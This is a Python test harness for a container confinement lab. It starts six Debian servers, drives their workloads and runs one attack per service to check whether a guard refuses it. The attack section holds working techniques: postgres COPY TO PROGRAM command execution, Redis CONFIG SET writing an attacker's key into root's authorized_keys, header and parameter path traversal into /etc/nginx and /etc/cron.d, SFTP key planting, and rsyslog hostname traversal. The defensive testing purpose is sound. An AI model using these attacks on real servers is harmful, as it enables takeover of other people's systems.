#!/usr/bin/python3
"""The confine lab's corpus: real server programs from Debian bookworm, each with its workload and one attack.

One program, installed under four names (no shell anywhere: the guard never admits one, so an entrypoint or a
workload written in sh would never be confined):

    corpus-start SERVICE      exec the server (the container's entrypoint; the server becomes PID 1)
    corpus-workload SERVICE   drive what the server is for; exit 0 when it did its job, else print why and exit 1
    corpus-health SERVICE     one protocol-level answer from the server; exit 0 when it answered
    corpus-attack SERVICE     one attack appropriate to the server; prints one JSON line whose "outcome" is "ok"
                              when the attack succeeded, else the errno name or the error it met

SERVICE is one of postgres, redis, nginx, notes, sshd, rsyslog (docs/corpus.md). `corpus upstream` is the small HTTP
upstream nginx proxies to (started by `corpus-start nginx`).
"""

from __future__ import annotations

import errno
import hashlib
import http.client
import json
import os
import pwd
import socket
import subprocess
import sys
import time
import urllib.parse
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

SERVICES = ("postgres", "redis", "nginx", "notes", "sshd", "rsyslog")
SHARE = "/usr/local/share/corpus"
PG_BIN = "/usr/lib/postgresql/15/bin"
PG_DATA = "/var/lib/postgresql/15/main"
PG_CONF = "/etc/postgresql/15/main/postgresql.conf"
SFTP_USER = "corpus"
SFTP_KEY = "/etc/corpus/sftp/id_ed25519"
ATTACKER_KEY = "/etc/corpus/sftp/attacker_ed25519"
TIMEOUT = 60


class Failed(Exception):
    """A workload step that did not do its job."""


def log(*parts):
    print("corpus:", *parts, file=sys.stderr, flush=True)


def wait_for(what, check, timeout=TIMEOUT, interval=0.2):
    """Call ``check`` until it returns a true value (or raises nothing); return it. Fail after ``timeout`` s."""
    deadline = time.monotonic() + timeout
    last = None
    while time.monotonic() < deadline:
        try:
            result = check()
            if result:
                return result
        except (OSError, Failed, http.client.HTTPException) as exc:
            last = exc
        time.sleep(interval)
    raise Failed("%s: not within %d s (%s)" % (what, timeout, last))


def run(argv, user=None, env=None, timeout=TIMEOUT, check=True, stdin=None):
    """Run ``argv`` (never through a shell), optionally as ``user``; return the CompletedProcess."""
    kwargs = {}
    if user is not None:
        entry = pwd.getpwnam(user)
        kwargs.update(user=entry.pw_uid, group=entry.pw_gid, extra_groups=[])
        env = dict(env or {}, HOME=entry.pw_dir, USER=user, LOGNAME=user)
    full_env = {"PATH": "/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin", "LANG": "C.UTF-8"}
    full_env.update(env or {})
    proc = subprocess.run(argv, env=full_env, capture_output=True, text=True, timeout=timeout, cwd="/",
                          input=stdin, check=False, **kwargs)
    if check and proc.returncode != 0:
        raise Failed("%s exited %d: %s" % (" ".join(argv), proc.returncode, (proc.stderr or proc.stdout)[-800:]))
    return proc


def http_request(method, port, path, body=None, headers=None, timeout=10):
    conn = http.client.HTTPConnection("127.0.0.1", port, timeout=timeout)
    try:
        conn.request(method, path, body=body, headers=headers or {})
        response = conn.getresponse()
        return response.status, response.read()
    finally:
        conn.close()


def errno_name(exc):
    return errno.errorcode.get(getattr(exc, "errno", None) or 0, type(exc).__name__)


# ------------------------------------------------------------------------------------------------------- start


def start(service):
    """Exec the server in the foreground, as Debian's own scripts start it (directories /run holds first)."""
    if service == "postgres":
        # Debian's scripts run the cluster as the postgres user through su/runuser (a PAM session).
        entry = pwd.getpwnam("postgres")
        os.makedirs("/run/postgresql", exist_ok=True)
        os.chown("/run/postgresql", entry.pw_uid, entry.pw_gid)
        os.chmod("/run/postgresql", 0o2775)
        argv = ["/usr/sbin/runuser", "-u", "postgres", "--", PG_BIN + "/postgres", "-D", PG_DATA,
                "-c", "config_file=" + PG_CONF]
    elif service == "redis":
        os.makedirs("/run/redis", exist_ok=True)
        argv = ["/usr/bin/redis-server", "/etc/redis/corpus.conf"]
    elif service == "nginx":
        # The upstream runs beside nginx on the loopback; nginx (PID 1) reaps it.
        subprocess.Popen(["/usr/bin/python3", "/usr/local/bin/corpus", "upstream"], cwd="/",
                         stdin=subprocess.DEVNULL)
        argv = ["/usr/sbin/nginx", "-g", "daemon off;"]
    elif service == "notes":
        argv = ["/usr/bin/python3", "/usr/local/lib/corpus/notes.py"]
    elif service == "sshd":
        os.makedirs("/run/sshd", mode=0o755, exist_ok=True)
        argv = ["/usr/sbin/sshd", "-D", "-e"]
    elif service == "rsyslog":
        argv = ["/usr/sbin/rsyslogd", "-n", "-f", "/etc/rsyslog.conf"]
    else:
        raise SystemExit("unknown service %r (one of %s)" % (service, ", ".join(SERVICES)))
    sys.stdout.flush()
    sys.stderr.flush()
    os.execv(argv[0], argv)


class UpstreamHandler(BaseHTTPRequestHandler):
    """The application nginx proxies to: a JSON report (large enough to be buffered to disk) and an echo."""

    server_version = "corpus-upstream/1"

    def _reply(self, status, body, content_type="application/json"):
        self.send_response(status)
        self.send_header("Content-Type", content_type)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def do_GET(self):
        if self.path.startswith("/api/report"):
            with open(SHARE + "/report.json", "rb") as handle:
                self._reply(200, handle.read())
        elif self.path.startswith("/api/ping"):
            self._reply(200, b'{"upstream": "ok"}\n')
        else:
            self._reply(404, b'{"error": "not found"}\n')

    def do_POST(self):
        length = int(self.headers.get("Content-Length") or 0)
        data = self.rfile.read(length)
        self._reply(200, json.dumps({"received": len(data), "sha256": hashlib.sha256(data).hexdigest()}).encode())

    def log_message(self, format, *args):
        log("upstream", self.address_string(), format % args)


def upstream():
    ThreadingHTTPServer(("127.0.0.1", 8001), UpstreamHandler).serve_forever()


# ----------------------------------------------------------------------------------------------------- helpers


def resp_command(sock, *args):
    """Send one Redis command (RESP) and read its reply."""
    payload = b"*%d\r\n" % len(args)
    for arg in args:
        data = arg if isinstance(arg, bytes) else str(arg).encode()
        payload += b"$%d\r\n%s\r\n" % (len(data), data)
    sock.sendall(payload)
    return _resp_read(sock.makefile("rb"))


def _resp_read(stream):
    line = stream.readline()
    if not line:
        raise Failed("redis closed the connection")
    kind, rest = line[:1], line[1:-2]
    if kind == b"+":
        return rest.decode()
    if kind == b"-":
        return RedisError(rest.decode())
    if kind == b":":
        return int(rest)
    if kind == b"$":
        size = int(rest)
        if size < 0:
            return None
        data = stream.read(size + 2)
        return data[:-2].decode(errors="replace")
    if kind == b"*":
        return [_resp_read(stream) for _ in range(int(rest))]
    raise Failed("unexpected redis reply %r" % line)


class RedisError(str):
    """An error reply of Redis."""


def redis_connect():
    return socket.create_connection(("127.0.0.1", 6379), timeout=30)


def redis_info(sock, section):
    text = resp_command(sock, "INFO", section)
    return dict(line.split(":", 1) for line in text.splitlines() if ":" in line)


def psql(sql, timeout=TIMEOUT, check=True):
    return run([PG_BIN + "/psql", "-X", "-q", "-A", "-t", "-v", "ON_ERROR_STOP=1", "-d", "postgres", "-c", sql],
               user="postgres", timeout=timeout, check=check)


def sftp(batch, key=SFTP_KEY, check=True):
    """Run an sftp batch as the SFTP-only user (sftp runs ssh; no shell on either side)."""
    return run(["/usr/bin/sftp", "-b", "-", "-i", key, "-o", "BatchMode=yes", "-o", "IdentitiesOnly=yes",
                "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null", "-o", "LogLevel=ERROR",
                SFTP_USER + "@127.0.0.1"], stdin=batch, check=check)


def rsyslog_send(lines):
    """Send RFC 5424 messages to rsyslog over TCP (one per line, LF framing)."""
    with socket.create_connection(("127.0.0.1", 514), timeout=10) as sock:
        for line in lines:
            sock.sendall(line.encode() + b"\n")


def syslog_line(host, app, text):
    return "<14>1 %s %s %s %d - - %s" % (time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime()), host, app, os.getpid(),
                                          text)


def count_lines(path, needle):
    try:
        with open(path, encoding="utf-8", errors="replace") as handle:
            return sum(1 for line in handle if needle in line)
    except FileNotFoundError:
        return 0


# ---------------------------------------------------------------------------------------------------- workload


def workload(service):
    """Drive the service through its real work; return a summary dict, raise Failed when a step did not work."""
    health(service, wait=True)
    if service == "postgres":
        run([PG_BIN + "/pgbench", "-i", "-s", "1", "-q", "postgres"], user="postgres", timeout=300)
        bench = run([PG_BIN + "/pgbench", "-c", "2", "-j", "2", "-t", "50", "postgres"], user="postgres",
                    timeout=300)
        # A sort that does not fit a small work_mem spills to temporary files (base/pgsql_tmp/pgsql_tmpPID.N).
        plan = psql("SET work_mem = '64kB'; EXPLAIN (ANALYZE, COSTS OFF, TIMING OFF) "
                    "SELECT aid FROM pgbench_accounts ORDER BY abalance, filler DESC").stdout
        if "external" not in plan:
            raise Failed("the sort did not spill to disk: %s" % plan)
        # A checkpoint, as the server makes every checkpoint_timeout and when it shuts down (docker stop): without
        # it, a trial shorter than checkpoint_timeout never sees the files a checkpoint writes.
        psql("CHECKPOINT")
        tps = [line for line in bench.stdout.splitlines() if line.startswith("tps")]
        return {"pgbench": tps, "sort": [line.strip() for line in plan.splitlines() if "Sort Method" in line]}
    if service == "redis":
        run(["/usr/bin/redis-benchmark", "-q", "-n", "2000", "-c", "4", "-t", "set,get,incr,lpush,lpop"],
            timeout=300)
        with redis_connect() as sock:
            before = resp_command(sock, "LASTSAVE")
            reply = resp_command(sock, "BGSAVE")
            if isinstance(reply, RedisError):
                raise Failed("BGSAVE: %s" % reply)

            def saved():
                info = redis_info(sock, "persistence")
                return (info.get("rdb_bgsave_in_progress") == "0" and info.get("rdb_changes_since_last_save") == "0"
                        and info)

            info = wait_for("the background save", saved)
            if info.get("rdb_last_bgsave_status") != "ok":
                raise Failed("the background save failed: %s" % info)
            after = resp_command(sock, "LASTSAVE")
            keys = resp_command(sock, "DBSIZE")
        if not os.path.getsize("/var/lib/redis/dump.rdb"):
            raise Failed("no RDB file")
        return {"bgsave": reply, "lastsave": [before, after], "keys": keys}
    if service == "nginx":
        checks = {}
        status, body = http_request("GET", 80, "/")
        if status != 200 or b"corpus" not in body:
            raise Failed("GET / answered %d" % status)
        checks["index"] = status
        status, body = http_request("GET", 80, "/static/style.css")
        if status != 200:
            raise Failed("GET /static/style.css answered %d" % status)
        with open(SHARE + "/report.json", "rb") as handle:
            report = handle.read()
        for tenant in ("tenant-1", "tenant-2"):
            status, body = http_request("GET", 80, "/api/report", headers={"X-Tenant": tenant})
            if status != 200 or body != report:
                raise Failed("GET /api/report through the proxy answered %d (%d bytes)" % (status, len(body)))
        data = os.urandom(96 * 1024)  # larger than client_body_buffer_size: nginx buffers it to a file
        status, body = http_request("POST", 80, "/api/echo", body=data, headers={"X-Tenant": "tenant-1"})
        if status != 200 or json.loads(body)["sha256"] != hashlib.sha256(data).hexdigest():
            raise Failed("POST /api/echo through the proxy answered %d: %r" % (status, body[:200]))
        status, _ = http_request("GET", 80, "/missing")
        if status != 404:
            raise Failed("GET /missing answered %d" % status)
        for tenant in ("tenant-1", "tenant-2"):
            path = "/var/log/nginx/tenants/%s.log" % tenant
            wait_for("the access log " + path, lambda path=path: count_lines(path, "/api/"), timeout=10)
        checks["proxy"] = "ok"
        return checks
    if service == "notes":
        names = []
        for number in range(1, 4):
            name = "note-%d" % number
            text = "note %d written at %f\n" % (number, time.time())
            status, body = http_request("POST", 8080, "/notes?" + urllib.parse.urlencode({"name": name}),
                                        body=text.encode())
            if status != 201:
                raise Failed("POST %s answered %d: %r" % (name, status, body))
            status, body = http_request("GET", 8080, "/notes?" + urllib.parse.urlencode({"name": name}))
            if status != 200 or body.decode() != text:
                raise Failed("GET %s answered %d: %r" % (name, status, body))
            names.append(name)
        status, body = http_request("GET", 8080, "/notes")
        listed = json.loads(body)["notes"] if status == 200 else []
        if not set(names) <= set(listed):
            raise Failed("the index lists %s" % listed)
        return {"notes": len(listed)}
    if service == "sshd":
        sftp("-mkdir files\nput %s/payload.bin files/upload-1.bin\nrename files/upload-1.bin files/kept-1.bin\n"
             "get files/kept-1.bin /tmp/sftp-download-1.bin\nls -l files\nrm files/kept-1.bin\n" % SHARE)
        with open(SHARE + "/payload.bin", "rb") as one, open("/tmp/sftp-download-1.bin", "rb") as two:
            if one.read() != two.read():
                raise Failed("the downloaded file differs from the uploaded one")
        os.unlink("/tmp/sftp-download-1.bin")
        return {"sftp": "put, rename, get, ls, rm"}
    if service == "rsyslog":
        tag = "run-%d-%d" % (os.getpid(), time.time_ns())
        lines = [syslog_line(host, app, "%s message %d" % (tag, number))
                 for host in ("web-1", "db-1") for app in ("nginx", "postgres") for number in range(25)]
        rsyslog_send(lines)
        for host in ("web-1", "db-1"):
            for app in ("nginx", "postgres"):
                path = "/var/log/remote/%s/%s.log" % (host, app)
                wait_for("25 lines in " + path, lambda path=path: count_lines(path, tag) >= 25, timeout=20)
        return {"messages": len(lines)}
    raise SystemExit("unknown service %r (one of %s)" % (service, ", ".join(SERVICES)))


# ------------------------------------------------------------------------------------------------------ health


def health(service, wait=False):
    """One protocol-level answer: raise Failed (or OSError) when the service does not give it."""

    def check():
        if service == "postgres":
            with socket.create_connection(("127.0.0.1", 5432), timeout=5) as sock:
                sock.sendall((8).to_bytes(4, "big") + (80877103).to_bytes(4, "big"))  # SSLRequest
                if sock.recv(1) not in (b"S", b"N"):
                    raise Failed("no answer to SSLRequest")
        elif service == "redis":
            with redis_connect() as sock:
                if resp_command(sock, "PING") != "PONG":
                    raise Failed("no PONG")
        elif service in ("nginx", "notes"):
            port, path = (80, "/") if service == "nginx" else (8080, "/health")
            status, _ = http_request("GET", port, path)
            if status != 200:
                raise Failed("answered %d" % status)
        elif service == "sshd":
            with socket.create_connection(("127.0.0.1", 22), timeout=5) as sock:
                if not sock.recv(64).startswith(b"SSH-2.0-OpenSSH"):
                    raise Failed("no SSH banner")
        elif service == "rsyslog":
            socket.create_connection(("127.0.0.1", 514), timeout=5).close()
        else:
            raise SystemExit("unknown service %r (one of %s)" % (service, ", ".join(SERVICES)))
        return True

    if wait:
        return wait_for(service + " answering", check)
    return check()


# ------------------------------------------------------------------------------------------------------ attack


def attack(service):
    """One attack; returns {"attack", "outcome", "detail", "target"}. ``target`` is the path the attack touches
    (an AppArmor DENIED record of it is what its refusal looks like in the audit log)."""
    health(service, wait=True)
    if service == "postgres":
        # The database runs a shell for its client: COPY ... TO PROGRAM as superuser (popen: /bin/sh -c).
        proof = "/tmp/corpus-attack-postgres"
        proc = psql("COPY (SELECT 1) TO PROGRAM 'id > %s'" % proof, check=False)
        done = False
        if proc.returncode == 0 and os.path.exists(proof):
            with open(proof, encoding="utf-8") as handle:
                done = "uid=" in handle.read()
        detail = (proc.stderr or proc.stdout).strip()
        return {"attack": "COPY (SELECT 1) TO PROGRAM 'id > %s'" % proof, "outcome": "ok" if done else
                _error_of(detail), "detail": detail, "target": "/usr/bin/dash"}
    if service == "redis":
        # CONFIG SET dir /root/.ssh + dbfilename authorized_keys + SAVE: the RDB file, holding a key of the
        # attacker's between newlines, becomes root's authorized_keys.
        with open(ATTACKER_KEY + ".pub", encoding="utf-8") as handle:
            key = handle.read().strip()
        with redis_connect() as sock:
            old_dir = resp_command(sock, "CONFIG", "GET", "dir")[1]
            old_name = resp_command(sock, "CONFIG", "GET", "dbfilename")[1]
            steps = [resp_command(sock, "CONFIG", "SET", "dir", "/root/.ssh"),
                     resp_command(sock, "CONFIG", "SET", "dbfilename", "authorized_keys"),
                     resp_command(sock, "SET", "corpus-attack", "\n\n%s\n\n" % key)]
            saved = resp_command(sock, "SAVE")
            # Put the server back as it was, so that its own saves work again.
            resp_command(sock, "DEL", "corpus-attack")
            resp_command(sock, "CONFIG", "SET", "dir", old_dir)
            resp_command(sock, "CONFIG", "SET", "dbfilename", old_name)
        try:
            with open("/root/.ssh/authorized_keys", "rb") as handle:
                planted = key.encode() in handle.read()
        except OSError:
            planted = False
        detail = "; ".join(map(str, [*steps, saved]))
        outcome = "ok" if saved == "OK" and planted else _error_of(str(saved))
        return {"attack": "CONFIG SET dir /root/.ssh; CONFIG SET dbfilename authorized_keys; SAVE",
                "outcome": outcome, "detail": detail, "target": "/root/.ssh/"}
    if service == "nginx":
        # The per-tenant access log takes its name from a request header: a tenant of ../../../../etc/nginx/conf.d/x
        # makes nginx create a file of the attacker's naming in nginx's own configuration directory.
        target = "/etc/nginx/conf.d/corpus-attack.log"
        tenant = "../../../../etc/nginx/conf.d/corpus-attack"
        status, _ = http_request("GET", 80, "/api/ping", headers={"X-Tenant": tenant})
        try:
            wait_for(target, lambda: os.path.exists(target), timeout=5)
            outcome = "ok"
        except Failed:
            outcome = _log_error("/var/log/nginx/error.log", "corpus-attack") or "not created"
        return {"attack": "X-Tenant: " + tenant, "outcome": outcome,
                "detail": "GET answered %d" % status, "target": target}
    if service == "notes":
        # The app joins the name parameter to its data directory unchecked: ../../etc/cron.d/x is a cron job.
        target = "/etc/cron.d/corpus-notes"
        status, body = http_request("POST", 8080, "/notes?" + urllib.parse.urlencode(
            {"name": "../../etc/cron.d/corpus-notes"}), body=b"* * * * * root id > /tmp/corpus-notes-cron\n")
        answer = json.loads(body or b"{}")
        outcome = "ok" if status == 201 and os.path.exists(target) else answer.get("errno") or "HTTP %d" % status
        return {"attack": "POST /notes?name=../../etc/cron.d/corpus-notes", "outcome": outcome,
                "detail": answer, "target": target}
    if service == "sshd":
        # The SFTP-only user makes itself a new way in: its own ~/.ssh/authorized_keys, with the attacker's key.
        target = "/home/%s/.ssh/authorized_keys" % SFTP_USER
        local = "/tmp/corpus-attack-authorized_keys"
        got = sftp("get .ssh/authorized_keys %s\n" % local, check=False)
        if got.returncode != 0:
            detail = (got.stderr or got.stdout).strip()
            return {"attack": "sftp get .ssh/authorized_keys", "outcome": _error_of(detail), "detail": detail,
                    "target": target}
        with open(local, "a", encoding="utf-8") as handle, open(ATTACKER_KEY + ".pub", encoding="utf-8") as key:
            handle.write(key.read())
        put = sftp("put %s .ssh/authorized_keys\n" % local, check=False)
        os.unlink(local)
        detail = (put.stderr or put.stdout).strip()
        if put.returncode != 0:
            return {"attack": "sftp put .ssh/authorized_keys", "outcome": _error_of(detail), "detail": detail,
                    "target": target}
        login = sftp("ls .ssh\n", key=ATTACKER_KEY, check=False)
        return {"attack": "sftp put .ssh/authorized_keys", "outcome": "ok" if login.returncode == 0 else
                "written, but the attacker's key does not log in", "detail": (login.stderr or login.stdout).strip(),
                "target": target}
    if service == "rsyslog":
        # The per-host log file takes its directory from the sender's HOSTNAME field: ../../../etc/cron.d.
        target = "/etc/cron.d/corpus-attack.log"
        rsyslog_send([syslog_line("../../../etc/cron.d", "corpus-attack", "* * * * * root id")])
        try:
            wait_for(target, lambda: os.path.exists(target), timeout=5)
            outcome = "ok"
        except Failed:
            outcome = "not created"
        return {"attack": "HOSTNAME ../../../etc/cron.d", "outcome": outcome, "detail": "", "target": target}
    raise SystemExit("unknown service %r (one of %s)" % (service, ", ".join(SERVICES)))


def _error_of(text):
    """The errno name an error message names (Permission denied -> EACCES), else the message's first line."""
    for code, name in errno.errorcode.items():
        if os.strerror(code) in text:
            return name
    return (text.splitlines() or ["failed"])[0][:200]


def _log_error(path, needle):
    try:
        with open(path, encoding="utf-8", errors="replace") as handle:
            lines = [line for line in handle if needle in line]
    except OSError:
        return None
    return _error_of(lines[-1]) if lines else None


# -------------------------------------------------------------------------------------------------------- main


def main(argv):
    name = os.path.basename(argv[0])
    args = argv[1:]
    if name.startswith("corpus-"):
        args = [name[len("corpus-") :], *args]
    if args == ["upstream"]:
        upstream()
        return 0
    if len(args) != 2 or args[0] not in ("start", "workload", "attack", "health") or args[1] not in SERVICES:
        print(__doc__.strip(), file=sys.stderr)
        return 2
    command, service = args
    if command == "start":
        start(service)
    try:
        if command == "workload":
            print(json.dumps({"service": service, "workload": workload(service)}, sort_keys=True))
        elif command == "health":
            health(service)
            print(json.dumps({"service": service, "health": "ok"}))
        else:
            print(json.dumps(dict(attack(service), service=service), sort_keys=True))
    except (Failed, OSError, subprocess.TimeoutExpired, http.client.HTTPException) as exc:
        print(json.dumps({"service": service, command: "failed", "error": str(exc)}), flush=True)
        log(service, command, "failed:", exc)
        return 1
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
